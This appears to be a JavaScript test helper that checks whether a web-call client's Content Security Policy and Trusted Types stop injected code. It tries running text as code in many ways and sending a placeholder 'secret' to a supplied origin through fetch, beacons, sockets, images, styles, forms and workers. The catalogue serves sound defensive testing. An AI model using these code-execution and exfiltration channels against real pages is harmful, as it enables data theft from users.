// What code that came into the page by a fault of it would try: to run text as code, and to send things away. Given to a browser as text at the
// end of one of the client's own files, so that it runs as that file does and under the same policy; what a driver evaluates would run under
// none. The functions name nothing outside themselves.

/**
 * Tries everything, one after the other. Ends with `window.attempts`: by way `ran` (its text ran), `refused` (it threw, or the browser told of a
 * violation) or `silent`. What arrived elsewhere the listener there knows.
 * @param {string} elsewhere an origin
 * @param {number} patience_ms for the browser to tell of a violation
 */
export async function tryEverything(elsewhere, patience_ms) {
  const outcomes = {};
  const ran = (way) => (outcomes[way] = 'ran');
  window.attempts = null;
  window.ranInPage = ran;
  const add = (tag, properties, attributes = {}) => {
    const element = Object.assign(document.createElement(tag), properties);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const to = (way) => `${elsewhere}/${way}`;
  const EMPTY_WASM = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
  const textAsCode = {
    eval: () => (0, eval)('ranInPage("eval")'),
    function: () => new Function('ranInPage("function")')(),
    timer: () => setTimeout('ranInPage("timer")', 0),
    'inline script': () => add('script', { textContent: 'ranInPage("inline script")' }),
    'inline handler': () => add('button', {}, { type: 'button', onclick: 'ranInPage("inline handler")' }).click(),
    'address of script': () => add('a', { href: 'javascript:void ranInPage("address of script")' }).click(),
    'script of an address that is text': () => import(`data:text/javascript,${encodeURIComponent('ranInPage("script of an address that is text")')}`),
    'script of a blob': () => import(URL.createObjectURL(new Blob(['ranInPage("script of a blob")'], { type: 'text/javascript' }))),
    'markup with a handler': () => (add('div', {}).innerHTML = '<img src="data:,x" onerror="ranInPage(&quot;markup with a handler&quot;)">'),
    'types of its own': () => trustedTypes.createPolicy('attempt', { createHTML: (text) => text }) && ran('types of its own'),
    'types of the client, for the keys': () => trustedTypes.createPolicy('webcall-keys', { createHTML: (text) => text }) && ran('types of the client, for the keys'),
    'types of the client, for media': () => trustedTypes.createPolicy('webcall-media', { createHTML: (text) => text }) && ran('types of the client, for media'),
    'types for everything': () => trustedTypes.createPolicy('default', { createHTML: (text) => text }) && ran('types for everything'),
    webassembly: async () => {
      await WebAssembly.compile(EMPTY_WASM);
      ran('webassembly');
    },
    'webassembly at once': () => new WebAssembly.Module(EMPTY_WASM) && ran('webassembly at once'),
  };
  const sheet = (text) => {
    const made = new CSSStyleSheet();
    made.replaceSync(text);
    document.adoptedStyleSheets.push(made);
    add('div', { className: 'attempt', textContent: 'attempt' });
  };
  const away = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors', method: 'POST', body: 'secret' }),
    xhr: () => {
      const asked = new XMLHttpRequest();
      asked.open('POST', to('xhr'));
      asked.send('secret');
    },
    websocket: () => void new WebSocket(to('websocket').replace('http', 'ws')),
    eventsource: () => void new EventSource(to('eventsource')),
    beacon: () => navigator.sendBeacon(to('beacon'), 'secret'),
    image: () => void Object.assign(new Image(), { src: to('image') }),
    'image-of-style': () => sheet(`.attempt { background: url(${to('image-of-style')}) }`),
    font: () => new FontFace('attempt', `url(${to('font')})`).load(),
    stylesheet: () => add('link', { rel: 'stylesheet', href: to('stylesheet') }),
    script: () => add('script', { src: to('script') }),
    module: () => import(to('module')),
    modulepreload: () => add('link', { rel: 'modulepreload', href: to('modulepreload') }),
    preload: () => add('link', { rel: 'preload', as: 'fetch', href: to('preload') }, { crossorigin: '' }),
    prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    frame: () => add('iframe', { src: to('frame') }),
    object: () => add('object', { type: 'text/html', data: to('object') }),
    embed: () => add('embed', { type: 'text/html', src: to('embed') }),
    video: () => add('video', { src: to('video'), preload: 'auto' }),
    'form-in-frame': () => {
      add('iframe', { name: 'attempt' });
      add('form', { method: 'post', action: to('form-in-frame'), target: 'attempt' }).submit();
    },
    ping: () => add('a', { href: '#attempt', ping: to('ping') }).click(),
  };
  const workers = {
    worker: () => new Worker(to('worker')),
    'worker-of-blob': () => new Worker(URL.createObjectURL(new Blob([`fetch('${to('worker-of-blob')}', { mode: 'no-cors' })`]))),
  };

  let told = () => {};
  const violated = ({ blockedURI }) => told(blockedURI);
  document.addEventListener('securitypolicyviolation', violated);
  /** Until the browser tells of a violation: of this address, of its origin, or of none. */
  const violation = (way) =>
    new Promise((resolve) => {
      told = (blocked) => ([to(way), elsewhere, `${elsewhere}/`, to(way).replace('http', 'ws')].includes(blocked) || !blocked.includes('/')) && resolve('refused');
      setTimeout(() => resolve('silent'), patience_ms);
    });
  for (const [way, act] of Object.entries({ ...textAsCode, ...away, ...workers })) {
    const refused = violation(way);
    try {
      await Promise.race([act(), refused]);
      const outcome = await refused;
      outcomes[way] ??= outcome;
    } catch {
      outcomes[way] ??= 'refused';
    }
  }
  document.removeEventListener('securitypolicyviolation', violated);
  window.attempts = { textAsCode: Object.keys(textAsCode), away: [...Object.keys(away), ...Object.keys(workers)], outcomes };
}

/** The same within a worker, as far as it goes there; tells what became of it to whoever asks on the channel of this name. */
export async function tryInWorker(name, elsewhere) {
  const to = (way) => `${elsewhere}/${way}-of-${name}-worker`;
  const EMPTY_WASM = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
  const ways = {
    eval: () => (0, eval)('1'),
    function: () => new Function('return 1')(),
    webassembly: () => WebAssembly.compile(EMPTY_WASM),
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    websocket: () => new Promise((resolve, reject) => Object.assign(new WebSocket(to('websocket').replace('http', 'ws')), { onopen: resolve, onerror: reject })),
    import: () => import(to('import')),
    worker: () => new Worker(to('worker')),
  };
  const outcomes = {};
  for (const [way, act] of Object.entries(ways)) {
    outcomes[way] = await (async () => act())().then(() => 'ran', () => 'refused');
  }
  const channel = new BroadcastChannel(`attempts-${name}`);
  channel.onmessage = ({ data }) => data === 'what became of it?' && channel.postMessage(outcomes);
}
